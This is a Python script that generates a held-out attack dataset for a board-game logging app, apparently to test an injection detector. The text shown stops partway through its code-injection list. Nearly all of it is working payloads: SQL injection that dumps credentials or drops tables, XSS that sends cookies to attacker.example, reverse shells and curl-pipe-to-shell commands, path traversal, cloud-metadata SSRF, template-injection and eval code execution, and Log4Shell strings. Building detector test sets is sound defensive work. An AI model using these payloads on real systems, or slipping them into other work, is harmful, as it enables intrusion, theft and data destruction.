"""Attack held-out values for a board-game community and play-logging app.

Each value is a working payload for a vulnerable app that places the field where
the class says (SQL string/number, HTML body/attribute, shell line, file path,
fetched URL, server-side template, log line/header, LDAP filter, XPath...).
Payloads are hidden in the app's own notations: game titles, score sheets,
BGG ids, trade listings, house rules, session logs. Hand-written literals plus
a few small templates over hand-written pools. Class = <context>-<technique>[+<encoding>].

Output: attacks.jsonl next to this file. Deterministic (fixed seed, no set order).
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 9802
PREFIX = "ha98"

GAMES = ["Catan", "Wingspan", "Brass: Birmingham", "Root", "Azul", "Scythe", "Agricola",
         "Dune: Imperium", "Everdell", "Heat", "Cascadia", "Ark Nova", "Concordia", "Hanabi"]
PLAYERS = ["Anna", "Bjørn", "Chloé", "Emeka", "Hiro", "Kasia", "Liam", "Maëlle", "Tomás", "Zoë"]

# ---------------------------------------------------------------- sqli
SQLI = [
    ("search-union", "Catan' UNION SELECT username, password_hash FROM users-- -"),
    ("search-union", "Wingspan%' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- "),
    ("search-boolean", "Azul' OR '1'='1"),
    ("search-boolean", "Root' AND 1=1 AND 'meeple'='meeple"),
    ("search-boolean", "Brass: Birmingham' OR 2>1-- "),
    ("title-stacked", "Scythe (2nd ed.)'); DROP TABLE plays;--"),
    ("title-stacked", "Gloomhaven'; UPDATE users SET is_admin=1 WHERE username='Bjørn';--"),
    ("bggid-numeric", "224517 OR 1=1"),
    ("bggid-numeric", "174430 UNION SELECT email,api_token FROM accounts"),
    ("bggid-numeric", "0 OR (SELECT COUNT(*) FROM users)>0"),
    ("bggid-time", "266192 AND SLEEP(5)"),
    ("bggid-time", "167791;SELECT pg_sleep(7)--"),
    ("score-time", "12 + 3x4 - 2', (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END))--"),
    ("score-numeric", "22 OR score>0"),
    ("score-stacked", "87; INSERT INTO plays(game_id,user_id,score) VALUES (13,1,999)--"),
    ("score-error", "79 AND extractvalue(1,concat(0x7e,(SELECT password FROM users LIMIT 1)))"),
    ("score-error", "104 AND updatexml(null,concat(0x3a,version()),null)"),
    ("players-numeric", "2-4 OR 1=1"),
    ("players-error", "4 AND 1=CAST((SELECT current_user) AS int)"),
    ("playtime-time", "60-90'; WAITFOR DELAY '0:0:6'--"),
    ("playtime-boolean", "90' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a"),
    ("sort-orderby", "rating DESC, (SELECT CASE WHEN (SELECT 1 FROM admins LIMIT 1)=1 THEN score ELSE name END)"),
    ("sort-orderby", "playtime,(select sleep(4) from dual where database() like 'bg%')"),
    ("sort-orderby", "year_published ASC; DROP TABLE collections"),
    ("listing-union", "Brass Deluxe NIB €120' UNION SELECT card_number,cvv,expiry FROM payments-- -"),
    ("listing-boolean", "FS: Root VG' OR 'x'='x"),
    ("listing-stacked", "Price drop! $75 → $60'; DELETE FROM listings WHERE seller_id<>7;--"),
    ("notes-stacked", "Great game!'); EXEC xp_cmdshell 'whoami';--"),
    ("notes-union", "teach took 40 min' union select 1,group_concat(username,0x3a,password),3 from users#"),
    ("notes-boolean", "won with 152' or exists(select 1 from users where role='admin')-- "),
    ("rules-comment", "p.12 \"Lodging\"'/**/OR/**/1=1/**/--"),
    ("rules-comment", "Rule 4.3.2'/*drop phase*/UNION/*x*/SELECT/*x*/secret/*x*/FROM/*x*/config--"),
    ("username-auth", "admin'--"),
    ("username-auth", "meeple_maelle' OR 1=1 LIMIT 1-- "),
    ("username-auth", "' OR ''='"),
    ("password-auth", "x' OR 'a'='a' -- "),
    ("expansion-union", "Seafarers') UNION SELECT 1,@@version,3,4-- -"),
    ("expansion-subquery", "Prelude' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- "),
    ("location-time", "FLGS' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("location-blind", "club night' AND ASCII(SUBSTR((SELECT api_key FROM settings),1,1))>64-- "),
    ("tag-sqlite", "worker-placement' UNION SELECT name,sql FROM sqlite_master--"),
    ("tag-sqlite", "engine-building' AND 1=randomblob(500000000)--"),
    ("tag-oracle", "deck-builder' UNION SELECT banner,null FROM v$version--"),
    ("tag-oracle", "coop' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',6)--"),
    ("tag-mssql", "legacy'; IF (SELECT COUNT(*) FROM sysobjects)>0 WAITFOR DELAY '0:0:5'--"),
    ("year-numeric", "2018) OR (1=1"),
    ("year-numeric", "1995 UNION SELECT NULL,pg_read_file('/etc/passwd'),NULL"),
    ("weight-numeric", "3.9 AND (SELECT 1)=1"),
    ("publisher-outfile", "Kosmos' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- "),
    ("publisher-loadfile", "GMT' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("publisher-oob", "FFG'; COPY (SELECT password FROM users) TO PROGRAM 'curl -d @- http://attacker.example/x';--"),
    ("publisher-oob", "Stonemaier' AND (SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.sqli.attacker.example\\\\a')))-- "),
    ("designer-like", "Uwe Rosenberg%' AND password LIKE 'a%' -- "),
    ("designer-json", "Rosenberg' UNION SELECT json_extract(settings,'$.smtp_password'),1 FROM config--"),
    ("filter-in", "1,2,3) OR 1=1 -- "),
    ("filter-having", "wins' HAVING 1=1--"),
    ("filter-groupby", "player_id GROUP BY password HAVING 1=1--"),
    ("limit-procedure", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("session-union", "2024-03-14' UNION SELECT session_token,user_id FROM sessions WHERE '1'='1"),
    ("winner-boolean", "Tomás' AND (SELECT 'x' FROM users WHERE username='admin' AND LENGTH(password)>8)='x"),
    ("search-union+urlenc", "Catan%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-"),
    ("search-boolean+urlenc2", "Azul%2527%2520OR%2520%25271%2527%253D%25271"),
    ("bggid-union+case", "13 uNiOn SeLeCt uSeRnAmE,pAsSwOrD fRoM uSeRs"),
    ("title-union+comment", "Root'/**/UnIoN/**/SeLeCt/**/1,2,password/**/FrOm/**/users#"),
    ("score-boolean+hex", "0 OR username=0x61646d696e"),
    ("search-union+unicode", "Hanabi\u02bc UNION SELECT 1,password FROM users-- "),
    ("notes-stacked+wide", "review%bf%27; DROP TABLE reviews;--"),
    ("plain-union", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-boolean", "1' AND '1'='1"),
    ("plain-time", "1 AND SLEEP(10)"),
    ("plain-stacked", "'; SHUTDOWN;--"),
    ("plain-error", "' AND 1=CONVERT(int,@@version)--"),
    ("plain-orderby", "1 ORDER BY 9--"),
    ("plain-auth", "admin' #"),
]

# ---------------------------------------------------------------- xss
XSS = [
    ("title-html-script", "Brass: Birmingham <script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("title-html-img", "Twilight Imperium <img src=x onerror=alert(document.domain)>"),
    ("title-html-svg", "Root: The Underworld <svg onload=alert(1)>"),
    ("review-html-details", "Loved it! 9/10 <details open ontoggle=alert(document.cookie)>spoilers</details>"),
    ("review-html-iframe", "Rulebook here: <iframe src=\"javascript:alert(origin)\"></iframe>"),
    ("review-html-body", "Teach went well <body onload=alert('xss')>"),
    ("review-html-video", "Unboxing <video><source onerror=\"fetch('https://attacker.example/?'+localStorage.token)\"></video>"),
    ("notes-html-marquee", "<marquee onstart=alert(1)>Game night 14/03</marquee>"),
    ("notes-html-input", "Score: <input autofocus onfocus=alert(document.cookie)>"),
    ("notes-html-style", "<style>@keyframes k{}</style><p style=\"animation-name:k\" onanimationstart=alert(1)>VP 22</p>"),
    ("notes-html-math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("notes-html-object", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("notes-html-form", "<form action=https://attacker.example/login><input name=pw type=password placeholder='Re-enter BGG password'><button>OK</button></form>"),
    ("notes-html-meta", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/bgg-login\">"),
    ("notes-html-base", "<base href=\"https://attacker.example/\">Session log 12:40"),
    ("notes-html-audio", "<audio src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("listing-attr-break", "Brass Deluxe NIB\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("listing-attr-break", "FS: Root VG' autofocus onfocus='alert(1)"),
    ("listing-attr-break", "Gloomhaven\"><script>alert(1)</script>"),
    ("listing-attr-style", "Scythe\" style=\"position:fixed;inset:0\" onmousemove=\"alert(1)"),
    ("avatar-attr-src", "x\" onerror=\"new Image().src='//attacker.example/?c='+document.cookie"),
    ("link-href-js", "javascript:alert(document.cookie)//https://boardgamegeek.com/boardgame/13"),
    ("link-href-js", "javascript://boardgamegeek.com/%0Aalert(1)"),
    ("link-href-data", "data:text/html,<script>alert(document.domain)</script>"),
    ("link-href-js+entity", "jav&#x09;ascript:alert(1)"),
    ("link-href-js+entity", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("link-href-js+case", "JaVaScRiPt:alert('bgg')"),
    ("link-href-vbscript", "vbscript:msgbox(\"hi\")"),
    ("rules-js-string", "p.12';alert(document.cookie);//"),
    ("rules-js-string", "Lodging\\';alert(1);//"),
    ("rules-js-template", "${alert(document.domain)}"),
    ("rules-js-close", "Drop phase</script><script>alert(1)</script>"),
    ("score-js-numeric", "22;alert(1)"),
    ("score-js-json", "87}</script><img src=x onerror=alert(1)>"),
    ("player-html-svg", "Zoë<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("player-html-img", "<img src=\"x\" onerror=\"this.src='https://attacker.example/p?'+document.cookie\">"),
    ("player-html-anchor", "<a href=\"javascript:alert(1)\">Maëlle's profile</a>"),
    ("chat-html-button", "<button popovertarget=p>Rules</button><div id=p popover onbeforetoggle=alert(1)>x</div>"),
    ("chat-html-textarea", "</textarea><script>alert(1)</script>"),
    ("chat-html-title", "</title><script>alert('session')</script>"),
    ("chat-html-noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("expansion-html-svg-use", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("expansion-html-table", "Prelude<table background=\"javascript:alert(1)\">"),
    ("markdown-link-js", "[Official FAQ](javascript:alert(document.cookie))"),
    ("markdown-image-attr", "![board](https://example.com/b.png\"onerror=\"alert(1))"),
    ("markdown-link-data", "[player aid](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("markdown-html-inline", "**Winner:** Anna <img src=1 onerror=alert(1)>"),
    ("bbcode-url-js", "[url=javascript:alert(1)]BGG thread[/url]"),
    ("bbcode-img-attr", "[img]https://example.com/x.png\" onerror=\"alert(1)[/img]"),
    ("angular-template", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-template", "Game night {{_c.constructor('alert(document.cookie)')()}}"),
    ("dom-hash", "#<img src=x onerror=alert(location.hash)>"),
    ("svg-upload-script", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><text>Board</text></svg>"),
    ("csv-import-html", "Catan,4,<img src=x onerror=alert(1)>,87"),
    ("json-html-break", "{\"note\":\"</script><svg onload=alert(1)>\"}"),
    ("title-html-img+entity", "&lt;img src=x onerror=alert(1)&gt;"),
    ("title-html-script+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("title-html-svg+urlenc2", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("notes-html-img+case", "<ImG sRc=x OnErRoR=alert(1)>"),
    ("notes-html-img+unicode", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("notes-html-script+nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("notes-js-eval+fromcharcode", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("notes-html-svg+newline", "<svg\nonload\n=\nalert(1)>"),
    ("notes-html-img+slash", "<img/src=x/onerror=alert(1)>"),
    ("notes-html-iframe+srcdoc-entity", "<iframe srcdoc=\"&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;\"></iframe>"),
    ("notes-js-backtick", "<img src=x onerror=alert`1`>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img", "<img src=x onerror=alert(1)>"),
    ("plain-svg", "<svg/onload=alert(1)>"),
    ("plain-attr", "\"><svg onload=alert(1)>"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
    ("plain-body", "<body onpageshow=alert(1)>"),
]

# ---------------------------------------------------------------- cmdi
CMDI = [
    ("export-filename-semicolon", "plays_2024.csv; curl http://attacker.example/s.sh | sh"),
    ("export-filename-semicolon", "scoresheet.pdf;id"),
    ("export-filename-pipe", "Brass_Birmingham_Rules_EN_v1.3.pdf | nc 203.0.113.7 4444 -e /bin/sh"),
    ("export-filename-and", "bgstats_export.json && wget -q -O- http://attacker.example/p | bash"),
    ("export-filename-or", "missing.bgsplay || cat /etc/passwd"),
    ("export-filename-subst", "plays_$(whoami).csv"),
    ("export-filename-backtick", "scores_`id`.csv"),
    ("export-filename-newline", "collection.xml\ncat /etc/shadow"),
    ("thumbnail-convert-semicolon", "box_front.jpg; rm -rf /tmp/uploads"),
    ("thumbnail-convert-subst", "cover$(sleep 9).png"),
    ("thumbnail-imagemagick-ephemeral", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/x.jpg\"|curl \"attacker.example/p|sh)'\npop graphic-context"),
    ("bggid-ping-semicolon", "224517;sleep 10"),
    ("bggid-fetch-and", "174430&&curl -d @/etc/passwd http://attacker.example/"),
    ("bggid-fetch-pipe", "13|id"),
    ("bggid-fetch-subst", "266192$(nslookup x.attacker.example)"),
    ("host-ping-semicolon", "boardgamegeek.com; cat /etc/passwd"),
    ("host-ping-newline", "boardgamegeek.com\nid"),
    ("host-ping-and", "127.0.0.1 && ls -la /"),
    ("host-ping-option", "-oProxyCommand=sh -c 'id>/tmp/o' boardgamegeek.com"),
    ("title-shell-subst", "Catan $(curl -s http://attacker.example/$(hostname))"),
    ("title-shell-backtick", "Wingspan `uname -a`"),
    ("title-shell-semicolon", "Scythe (2nd ed.); bash -i >& /dev/tcp/203.0.113.10/9001 0>&1"),
    ("notes-shell-pipe", "VP: 12 + 3x4 - 2 | sh -c 'cat /etc/passwd'"),
    ("notes-shell-redirect", "2-4 players > /var/www/html/index.html"),
    ("notes-shell-subst", "House rule: $(echo cm0gLXJmIC90bXAvKg== | base64 -d | sh)"),
    ("score-shell-arith", "$((12+3*4-2))$(id)"),
    ("pdf-render-wkhtml-semicolon", "--footer-html http://attacker.example/f.html; touch /tmp/pwned"),
    ("pdf-render-argument", "--enable-local-file-access --allow /etc"),
    ("git-backup-argument", "--upload-pack=touch /tmp/x"),
    ("git-backup-argument", "-c core.sshCommand=curl${IFS}attacker.example/s|sh"),
    ("archive-tar-argument", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    ("archive-zip-argument", "-TT sh -c id"),
    ("archive-filename-semicolon", "expansions.zip;wget attacker.example/x -O /tmp/x;sh /tmp/x"),
    ("curl-config-argument", "-K /etc/passwd"),
    ("find-exec-argument", "-name *.bgsplay -exec sh -c id ;"),
    ("sort-argument", "-o /etc/cron.d/bg plays.txt"),
    ("lang-env-injection", "en_US.UTF-8; env > /tmp/e"),
    ("locale-shell-ifs", "de_DE;cat${IFS}/etc/passwd"),
    ("locale-shell-ifs", "fr_FR;{cat,/etc/hosts}"),
    ("timezone-shell-semicolon", "Europe/Berlin;id"),
    ("font-fc-subst", "Noto Sans JP$(touch /tmp/f)"),
    ("printer-lp-semicolon", "HP_LaserJet; nc -e /bin/sh 198.51.100.23 8080"),
    ("ffmpeg-filename", "turn_timer.mp3|ls"),
    ("mail-sendmail-argument", "host@example.com -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("windows-cmd-amp", "plays.csv & type C:\\Windows\\win.ini"),
    ("windows-cmd-pipe", "scoresheet.pdf | powershell -nop -c \"iwr http://attacker.example/a.ps1|iex\""),
    ("windows-cmd-caret", "plays.csv & w^h^o^a^m^i"),
    ("windows-cmd-var", "collection.xml & %COMSPEC% /c dir"),
    ("windows-ps-subst", "Catan $(Invoke-WebRequest http://attacker.example/?h=$env:COMPUTERNAME)"),
    ("notes-shell-dollar-brace", "VP ${IFS}&&${IFS}id"),
    ("notes-shell-wildcard", "; /???/??t /???/p??s??"),
    ("notes-shell-quote-split", "; w'h'o\"am\"i"),
    ("notes-shell-backslash", "; c\\a\\t /e\\tc/pa\\sswd"),
    ("notes-shell-variable-concat", ";a=ca;b=t;$a$b /etc/passwd"),
    ("notes-shell-hex", "; $(printf '\\x69\\x64')"),
    ("title-shell-subst+urlenc", "Catan%24%28id%29"),
    ("filename-semicolon+urlenc", "plays.csv%3Bcat%20%2Fetc%2Fpasswd"),
    ("host-ping-newline+urlenc", "boardgamegeek.com%0Aid"),
    ("export-pipe+urlenc2", "plays.csv%257Cwhoami"),
    ("title-shell-backtick+unicode", "Azul \\u0060id\\u0060"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-subst", "$(whoami)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-and", "&& sleep 5"),
    ("plain-newline", "\nping -c 3 203.0.113.1"),
    ("plain-or", "|| curl http://attacker.example/"),
]

# ---------------------------------------------------------------- traversal
TRAV = [
    ("rulebook-file-dotdot", "../../../../etc/passwd"),
    ("rulebook-file-dotdot", "Brass_Birmingham_Rules_EN/../../../../../etc/shadow"),
    ("rulebook-file-dotdot", "rules/scythe/../../../../proc/self/environ"),
    ("rulebook-file-dotdot", "../../app/config/settings.py"),
    ("rulebook-file-absolute", "/etc/passwd"),
    ("rulebook-file-absolute", "/proc/self/cmdline"),
    ("rulebook-file-absolute", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("scoresheet-file-dotdot", "scoresheets/agricola/../../../../../home/app/.ssh/id_rsa"),
    ("scoresheet-file-nullbyte", "../../../../etc/passwd%00.pdf"),
    ("scoresheet-file-nullbyte", "../../../etc/hosts\u0000.png"),
    ("avatar-file-dotdot", "avatars/../../../../var/log/nginx/access.log"),
    ("avatar-file-dotdot", "..\\..\\..\\..\\windows\\win.ini"),
    ("avatar-file-backslash", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("export-path-dotdot", "exports/../../../../root/.bash_history"),
    ("export-path-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("export-path-unc", "\\\\203.0.113.5\\share\\plays.csv"),
    ("upload-zip-slip", "../../../../var/www/html/shell.php"),
    ("upload-zip-slip", "expansion_cards/../../../../../etc/cron.d/pwn"),
    ("upload-filename-dotdot", "box_art/../../static/index.html"),
    ("template-name-dotdot", "scorecard/../../../../etc/passwd"),
    ("lang-file-dotdot", "locales/../../../../../../etc/passwd"),
    ("lang-file-dotdot", "de/../../../../proc/self/fd/3"),
    ("image-proxy-dotdot", "/static/boxes/../../../app/.env"),
    ("image-proxy-dotdot", "catan_box.jpg/../../../../../../etc/group"),
    ("image-proxy-double", "....//....//....//etc/passwd"),
    ("image-proxy-double", "..././..././..././etc/passwd"),
    ("image-proxy-semicolon", "..;/..;/..;/WEB-INF/web.xml"),
    ("php-wrapper-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-wrapper-file", "file:///etc/passwd"),
    ("java-war-dotdot", "/rules/..%2f..%2fWEB-INF%2fweb.xml"),
    ("rulebook-file-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("rulebook-file-dotdot+urlenc2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("rulebook-file-dotdot+overlong", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("rulebook-file-dotdot+overlong", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("avatar-file-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("scoresheet-file-dotdot+unicode", "..\u2215..\u2215..\u2215etc\u2215passwd"),
    ("scoresheet-file-dotdot+fullwidth", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
    ("image-proxy-dotdot+mixedenc", "..%2F..%2f..%2F..%2fetc/passwd"),
    ("export-path-dotdot+16bit", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("include-param-dotdot", "games/catan.html?include=../../../../etc/passwd"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot", "..\\..\\..\\boot.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-dotdot+urlenc", "..%2f..%2f..%2fetc%2fpasswd"),
    ("plain-absolute", "/proc/self/environ"),
    ("plain-dotdot", "../../../../../../windows/system32/drivers/etc/hosts"),
]

# ---------------------------------------------------------------- ssrf
SSRF = [
    ("import-url-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("import-url-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("import-url-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("import-url-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("import-url-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("import-url-metadata-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("import-url-loopback", "http://127.0.0.1:8080/admin/users"),
    ("import-url-loopback", "http://localhost:6379/"),
    ("import-url-loopback", "http://0.0.0.0:9200/_cat/indices"),
    ("import-url-loopback", "http://[::1]:5000/internal/reset"),
    ("import-url-loopback", "http://127.1/server-status"),
    ("import-url-private", "http://10.0.0.12:8500/v1/agent/self"),
    ("import-url-private", "http://192.168.1.1/cgi-bin/luci"),
    ("import-url-private", "http://172.17.0.1:2375/containers/json"),
    ("import-url-internal-host", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("bgg-url-userinfo", "https://boardgamegeek.com@127.0.0.1/admin"),
    ("bgg-url-userinfo", "https://boardgamegeek.com:443@169.254.169.254/latest/meta-data/"),
    ("bgg-url-fragment", "http://127.0.0.1:8000/admin#@boardgamegeek.com/boardgame/13"),
    ("bgg-url-subdomain", "https://boardgamegeek.com.attacker.example/boardgame/224517"),
    ("bgg-url-redirect", "https://boardgamegeek.com/redirect?url=http://169.254.169.254/latest/meta-data/"),
    ("bgg-url-backslash", "https://attacker.example\\@boardgamegeek.com/thread/1"),
    ("avatar-url-dns-rebind", "http://a9fea9fe.7f000001.rbndr.attacker.example/latest/meta-data/"),
    ("avatar-url-redirector", "https://redirect.attacker.example/302?to=http://127.0.0.1:2379/v2/keys"),
    ("avatar-url-scheme-gopher", "gopher://127.0.0.1:6379/_SET%20bg%20pwn%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0A"),
    ("avatar-url-scheme-gopher", "gopher://localhost:11211/_stats%0D%0A"),
    ("avatar-url-scheme-dict", "dict://127.0.0.1:6379/INFO"),
    ("avatar-url-scheme-file", "file:///root/.aws/credentials"),
    ("avatar-url-scheme-file", "file://localhost/proc/self/environ"),
    ("avatar-url-scheme-ftp", "ftp://198.51.100.9:21/../../etc/passwd"),
    ("avatar-url-scheme-ldap", "ldap://127.0.0.1:389/dc=internal"),
    ("avatar-url-scheme-tftp", "tftp://203.0.113.8:69/boot.cfg"),
    ("webhook-url-private", "http://10.10.10.10:8080/actuator/env"),
    ("webhook-url-oob", "http://ssrf-bgapp.attacker.example/callback?from=webhook"),
    ("webhook-url-loopback", "http://localhost:15672/api/users"),
    ("ical-url-loopback", "webcal://127.0.0.1:8025/calendar.ics"),
    ("pdf-render-url-iframe", "<iframe src=\"http://169.254.169.254/latest/user-data\"></iframe>"),
    ("pdf-render-url-link", "<link rel=stylesheet href=\"http://127.0.0.1:9090/metrics\">"),
    ("import-url-metadata+decimal", "http://2852039166/latest/meta-data/"),
    ("import-url-loopback+decimal", "http://2130706433:8080/admin"),
    ("import-url-loopback+hex", "http://0x7f000001/admin"),
    ("import-url-loopback+octal", "http://0177.0.0.1/internal"),
    ("import-url-metadata+hexdotted", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("import-url-loopback+ipv6-mapped", "http://[::ffff:127.0.0.1]:8080/"),
    ("import-url-metadata+urlenc", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("import-url-loopback+unicode", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("import-url-loopback+nip", "http://127.0.0.1.nip.io/admin"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-file", "file:///etc/hosts"),
    ("plain-private", "http://10.0.0.1/"),
    ("plain-gopher", "gopher://127.0.0.1:25/_HELO"),
]

# ---------------------------------------------------------------- code
CODE = [
    ("scorecard-ssti-jinja", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("scorecard-ssti-jinja", "VP: {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("scorecard-ssti-jinja", "Winner: {{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("scorecard-ssti-jinja", "{{ config.items() }}"),
    ("scorecard-ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("scorecard-ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("scorecard-ssti-jinja-filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("title-ssti-twig", "{{ ['id']|filter('system') }}"),
    ("title-ssti-twig", "Catan {{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("title-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("title-ssti-velocity", "#set($rt=$class.inspect('java.lang.Runtime').type.getRuntime())$rt.exec('id')"),
    ("title-ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("notes-ssti-erb", "<%= `cat /etc/passwd` %>"),
    ("notes-ssti-erb", "Great game! <%= system('id') %>"),
    ("notes-ssti-mako", "${__import__('os').popen('id').read()}"),
    ("notes-ssti-mako", "<% import os; x=os.popen('uname -a').read() %>${x}"),
    ("notes-ssti-smarty", "{system('cat /etc/passwd')}"),
    ("notes-ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}"),
    ("notes-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("notes-ssti-ejs", "<%= process.mainModule.require('child_process').execSync('whoami') %>"),
    ("notes-ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("notes-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("notes-ssti-django", "{{ settings.SECRET_KEY }}"),
    ("notes-ssti-go", "{{ .Env.DATABASE_URL }}{{ printf \"%s\" .Secrets }}"),
    ("rules-el-spring", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("rules-el-spring", "#{T(java.lang.System).getenv()}"),
    ("rules-el-jsp", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("rules-el-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("rules-el-ognl", "${#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("rules-el-spel-bean", "#{@environment.getProperty('spring.datasource.password')}"),
    ("score-eval-python", "12 + 3*4 - 2 + __import__('os').system('id')"),
    ("score-eval-python", "__import__('subprocess').check_output(['cat','/etc/passwd'])"),
    ("score-eval-python", "(lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['id']))()"),
    ("score-eval-js", "12+3*4-2;require('child_process').exec('curl attacker.example/$(id)')"),
    ("score-eval-js", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("score-eval-php", "22;system($_GET['c']);"),
    ("score-eval-php", "${@print(file_get_contents('/etc/passwd'))}"),
    ("score-eval-ruby", "22; `id`"),
    ("session-log4shell", "Game night ${jndi:ldap://attacker.example:1389/Basic/Command/id}"),
    ("session-log4shell", "${jndi:rmi://198.51.100.40:1099/bg}"),
    ("session-log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("session-log4shell+nested", "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/a}"),
    ("session-log4shell+nested", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/x}"),
    ("useragent-log4shell+nested", "Mozilla/5.0 ${j${k8s:k5:-ND}i:ldap://log.attacker.example/o}"),
    ("import-deser-pickle", "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
